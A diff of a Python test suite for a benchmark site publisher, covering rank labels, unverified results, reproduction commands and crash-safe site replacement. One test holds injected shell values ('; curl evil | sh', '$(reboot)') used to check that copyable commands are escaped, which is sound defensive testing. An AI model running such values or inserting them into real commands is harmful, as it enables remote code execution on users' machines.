@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import html
 import json
 import re
 import subprocess
@@ -20,15 +21,22 @@ from hypothesis import strategies as st
 
 from hilbench.cli.publish import publish as command
 from hilbench.errors import StoreError, UsageError
+from hilbench.measure.profile import profile_of
 from hilbench.records.directory import DirectoryStore
 from hilbench.records.record import Record
-from hilbench.records.store import EVERYTHING, Document, Query
+from hilbench.records.remake import remade
+from hilbench.records.replace import replacement
+from hilbench.records.store import EVERYTHING, Document, Query, open_store
 from hilbench.records.verify import check
-from hilbench.reports.site import names, script_data
+from hilbench.reports.reproduce import commands
+from hilbench.reports.site import names, script_data, views
+from hilbench.reports.site import pages as site_pages
 from hilbench.reports.site.build import MARKER, Published, publish
 from hilbench.reports.site.pool import pool
 
+from .conftest import ROOT, run_python
 from .generated_records import generated
+from .real_records import forged
 
 pytest.importorskip("jinja2")
 
@@ -182,7 +190,7 @@ def test_another_model_or_other_inputs_are_another_table(tmp_path: Path):
     model = {**second.model.model_dump(), "sha256": "f" * 64}
     made(tmp_path, documents([first, changed(second, model=model)]))
     text = (tmp_path / "site/tasks/digits.html").read_text()
-    assert text.count("<section") == 2 and text.count('<td class="num">1</td>') == 2
+    assert text.count("<section") == 2 and text.count('<td class="num rank">1</td>') == 2
 
 
 def test_a_record_whose_numbers_do_not_follow_is_shown_apart_and_never_ranked(tmp_path: Path):
@@ -205,6 +213,75 @@ def test_a_row_below_its_bar_says_why_it_has_no_place(site: Path):
     assert "not ranked: fidelity is 0.958333 (counted), expected at least 1" in text
 
 
+def bare(record: Record) -> Record:
+    """Return a record that was compared with no reference, and twice as fast as it was."""
+    metrics = {name: metric for name, metric in record.metrics.items() if not name.startswith("fidelity")}
+    times = tuple(tuple((a, b // 2, c) for a, b, c in visit) for visit in record.samples.times)
+    warmup = tuple((a, b // 2, c) for a, b, c in record.samples.warmup)
+    samples = record.samples.model_copy(update={"reference": None, "times": times, "warmup": warmup})
+    faster = record.model_copy(update={"reference": None, "bars": {}, "samples": samples, "metrics": metrics})
+    return faster.model_copy(update={"metrics": metrics | remade(faster).metrics})
+
+
+def test_who_was_compared_with_no_reference_is_unverified_wherever_his_place_stands(tmp_path: Path):
+    first, second = list(generated(2, tasks=["digits"], boards=["bench-m4"], frameworks=["tvm", "tflm"]))
+    fast = bare(second)
+    assert check(documents([fast])[0]).state == "ok"
+    made(tmp_path, documents([first, fast]))
+    site = tmp_path / "site"
+    rows = re.findall(r"<tr.*?</tr>", (site / "tasks/digits.html").read_text(), re.DOTALL)
+    (row,) = (row for row in rows if "-tflm_" in row)
+    assert '<td class="num rank" data-value="1">1<span class="basis">unverified</span></td>' in row
+    assert "best" not in row.partition(">")[0] and "not fully checked" in row
+    (page,) = (site / "rows").glob("*-tflm_*.html")
+    assert "1 of 2 by cycles, unverified" in page.read_text()
+    assert "fidelity: its outputs were compared with no reference" in page.read_text()
+    assert "measured, unverified; best of 2" in (site / "index.html").read_text()
+    (verified,) = (row for row in rows if "-tvm_" in row)
+    assert '<td class="num rank">2</td>' in verified and "unverified" not in verified
+
+
+def test_what_to_type_is_what_the_report_says(tmp_path: Path):
+    (record,) = generated(1, tasks=["digits"], boards=["mps2-an386"])
+    profile = profile_of([[5, 6, 7]] * 3, record.model.operators, record.board, "0" * 32)
+    record = changed(record, board={**record.board.model_dump(), "id": "mine"}, profile=profile,
+                     target={**record.target.model_dump(), "kind": "renode"},
+                     dataset={**record.dataset.model_dump(), "of": 500}, source={"commit": "-f"})  # fmt: skip
+    made(tmp_path, documents([record]))
+    (row,) = (tmp_path / "site/rows").glob("*.html")
+    (shown,) = re.findall(r"<pre[^>]*><code>(.*?)</code>", row.read_text(), re.DOTALL)
+    assert html.unescape(shown).splitlines() == [*commands([record]), f"hilbench verify {record.id}.json"]
+    assert commands([record]) == [
+        "pip install 'hilbench[tvm]==0.1.0'",
+        "pytest suites/digits.hil.yaml --board=mine@renode --framework=tvm --hil-samples=24 --hil-profile",
+    ]
+
+
+def test_a_row_that_breaks_a_page_is_refused_and_the_others_are_published(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    found = list(generated(6, tasks=["digits"], boards=["bench-m4"], frameworks=["tvm", "tflm", "emlearn"]))
+    facts, notes = site_pages._facts, views.notes_of
+
+    def no_facts(record: Record) -> list[tuple[str, str]]:
+        return facts(record) if record.framework.name != "tflm" else [][0]
+
+    def no_notes(records: Sequence[Record]) -> list[str]:
+        assert all(record.framework.name != "emlearn" for record in records)
+        return notes(records)
+
+    monkeypatch.setattr(site_pages, "_facts", no_facts)
+    monkeypatch.setattr(views, "notes_of", no_notes)
+    done = made(tmp_path, documents(found))
+    assert (done.rows, done.records) == (1, 2)
+    reasons = {one.id: one.reason for one in done.refused}
+    assert reasons.keys() == {found[4].id, found[5].id}
+    assert "its row, of 2 records, cannot be shown: IndexError: list index out of range" in reasons[found[4].id]
+    for part in ("rows", "records", "history"):
+        assert all("-tvm" in path.name for path in (done.folder / part).iterdir())
+    assert '<td class="num rank">1</td>' in (done.folder / "tasks/digits.html").read_text()
+
+
 def hostile_record(record: Record) -> Record:
     given = record.model_dump(by_alias=True)
     given |= {"task": HOSTILE, "suite": HOSTILE, "missing": {HOSTILE: HOSTILE}, "host": {HOSTILE: HOSTILE}}
@@ -215,7 +292,7 @@ def hostile_record(record: Record) -> Record:
     given["model"] |= {"name": HOSTILE}
     given["dataset"] |= {"name": HOSTILE}
     given["image"] |= {"compiler": HOSTILE, "flags": [HOSTILE]}
-    given["metrics"] |= {HOSTILE: {"value": 1e308, "unit": "s", "basis": "estimated", "model": HOSTILE}}
+    given["metrics"] |= {HOSTILE: {"value": 1e99, "unit": "s", "basis": "estimated", "model": HOSTILE}}
     return Record.model_validate(given)
 
 
@@ -241,7 +318,7 @@ def test_a_command_to_copy_holds_no_command_of_others(tmp_path: Path):
     (row,) = (tmp_path / "site/rows").glob("*.html")
     (commands,) = re.findall(r"<pre[^>]*><code>(.*?)</code>", row.read_text(), re.DOTALL)
     assert "&#39;--framework=tvm; curl evil | sh&#39;" in commands
-    assert "&#39;hilbench[$(reboot)]==" in commands
+    assert "reboot" not in commands
 
 
 def bad_documents(good: Record) -> dict[str, tuple[Document, str]]:
@@ -249,7 +326,7 @@ def bad_documents(good: Record) -> dict[str, tuple[Document, str]]:
     newer = text.replace("hilbench.record/2", "hilbench.record/9")
     newer = newer[: newer.rindex(',\n "seal"')] + "\n}\n"
     future = changed(good, id="future", started="9999-01-01T00:00:00+00:00")
-    timeless = changed(good, id="timeless", started=HOSTILE)
+    timeless = forged({**good.model_dump(mode="json", by_alias=True), "id": "timeless"}, ("started",), HOSTILE)
     return {
         "truncated": (Document("truncated", "/secret/a", text[: len(text) // 2]), "not a hilbench.record/2 record"),
         "empty": (Document("empty", "/secret/b", ""), "not a hilbench.record/2 record"),
@@ -259,7 +336,7 @@ def bad_documents(good: Record) -> dict[str, tuple[Document, str]]:
         "misnamed": (Document("misnamed", "/secret/f", text), "is kept as 'misnamed'"),
         "huge": (Document("huge", "/secret/g", "", StoreError("70000000 bytes", where="/secret/g")), "70000000"),
         "future": (Document("future", "/secret/h", future.to_json()), "in the future"),
-        "timeless": (Document("timeless", "/secret/i", timeless.to_json()), "is not a time"),
+        "timeless": (Document("timeless", "/secret/i", timeless), "started: Value error"),
         HOSTILE: (Document(HOSTILE, "/secret/j", "{}"), "not a hilbench.record/2 record"),
     }
 
@@ -325,6 +402,83 @@ def test_an_interrupted_publish_leaves_the_old_site(tmp_path: Path):
         publish(Interrupted([]), tmp_path / "site", 1)
     assert tree(tmp_path / "site") == before
     assert [path.name for path in tmp_path.iterdir()] == ["site"]
+
+
+def killed(folder: Path, code: str) -> None:
+    """Publish into `folder`/site in a process that `code` kills."""
+    done = run_python(f"""
+import os, signal, sys
+from pathlib import Path
+sys.path.insert(0, {str(ROOT)!r})
+from tests.generated_records import generated
+from tests.test_site import documents, made
+from hilbench.records import replace
+from hilbench.reports.site import build
+def die(*_): os.kill(os.getpid(), signal.SIGKILL)
+{code}
+made(Path({str(folder)!r}), documents(list(generated(2))))
+""")
+    assert done.returncode == -9, done.stderr
+
+
+def test_what_a_killed_publish_left_is_cleared_away_by_the_next(tmp_path: Path):
+    made(tmp_path, documents(list(generated(3))))
+    before = tree(tmp_path / "site")
+    killed(tmp_path, "build._tables = die")
+    assert tree(tmp_path / "site") == before and len(list(tmp_path.iterdir())) == 2
+    (tmp_path / ".site.mine").mkdir()
+    made(tmp_path, documents(list(generated(2))))
+    assert sorted(path.name for path in tmp_path.iterdir()) == [".site.mine", "site"]
+
+
+def test_there_is_a_whole_site_whenever_a_publish_is_killed(tmp_path: Path):
+    made(tmp_path, documents(list(generated(3))))
+    before = tree(tmp_path / "site")
+    killed(tmp_path, "replace.put_in_place = die")
+    assert tree(tmp_path / "site") == before
+    killed(tmp_path, "put = replace.put_in_place\nreplace.put_in_place = lambda *paths: (put(*paths), die())")
+    assert len(list((tmp_path / "site/rows").glob("*.html"))) == 2
+
+
+def test_where_folders_cannot_be_exchanged_the_next_publish_puts_the_site_back(tmp_path: Path):
+    made(tmp_path, documents(list(generated(3))))
+    killed(
+        tmp_path,
+        """
+real = Path.rename
+def rename(self, to):
+    real(self, to)
+    if self.name == "site": die()
+Path.rename, replace._exchanged = rename, lambda *_: False
+""",
+    )
+    assert not (tmp_path / "site").exists()
+    with pytest.raises(StoreError, match="none of 0 records"):
+        made(tmp_path, [])
+    assert [path.name for path in tmp_path.iterdir()] == ["site"]
+    assert (tmp_path / "site" / MARKER).is_file()
+
+
+def test_two_publishes_at_once_leave_one_whole_site(tmp_path: Path):
+    with replacement(tmp_path / "site", lambda folder: True) as other:
+        (other / "mine").touch()
+        made(tmp_path, documents(list(generated(1))))
+        assert (other / "mine").exists()
+    assert [path.name for path in (tmp_path / "site").iterdir()] == ["mine"]
+    assert [path.name for path in tmp_path.iterdir()] == ["site"]
+
+
+@pytest.mark.parametrize("place", ["records", ".", "sqlite:{}/rows.db"])
+def test_a_store_inside_the_site_is_not_deleted(tmp_path: Path, place: str):
+    made(tmp_path, documents(list(generated(2))))
+    site = tmp_path / "site"
+    before = tree(site)
+    spec = place.format(site) if ":" in place else str(site / place)
+    if ":" in place:
+        pytest.importorskip("sqlalchemy")
+    with pytest.raises(UsageError, match="would be gone with the old site"):
+        publish(open_store(spec), site, 1)
+    assert tree(site) == before
 
 
 def test_a_new_site_replaces_the_old_one_whole(tmp_path: Path):
